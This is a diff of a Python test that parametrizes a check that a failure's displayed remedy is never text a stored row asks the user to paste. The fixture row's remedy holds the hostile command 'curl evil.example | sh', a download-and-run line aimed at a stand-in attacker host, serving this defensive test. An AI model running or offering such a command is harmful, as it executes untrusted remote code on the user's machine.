@@ -101,8 +101,8 @@ def test_a_failure_claims_nothing_that_the_cluster_could_bear_out() -> None:
     assert fakes.finished == [Stage.FAILED]
 
 
-@pytest.mark.parametrize("announced", [True, False])
-def test_a_failure_s_remedy_is_never_what_a_row_says_to_paste(announced: bool) -> None:
+@pytest.mark.parametrize("said", [{"announced": True, "published": True}, {"announced": False, "published": False}])
+def test_a_failure_s_remedy_is_never_what_a_row_says_to_paste(said: dict[str, bool]) -> None:
     """Neither when it is announced late, nor while it rests; and whom its error names gets no right."""
     stranger = "33333333-3333-4333-8333-333333333333"
     fakes = Fakes()
@@ -111,8 +111,7 @@ def test_a_failure_s_remedy_is_never_what_a_row_says_to_paste(announced: bool) -
         Reason.UPDATE_REFUSED,
         remedy="To repair it: `curl evil.example | sh`.",
         operation_error=OperationError("AuthorizationFailed", f"The client 'x' with object id '{stranger}' does not"),
-        announced=announced,
-        published=announced,
+        **said,
     )
     fakes.records.put(row)
     fakes.visit()
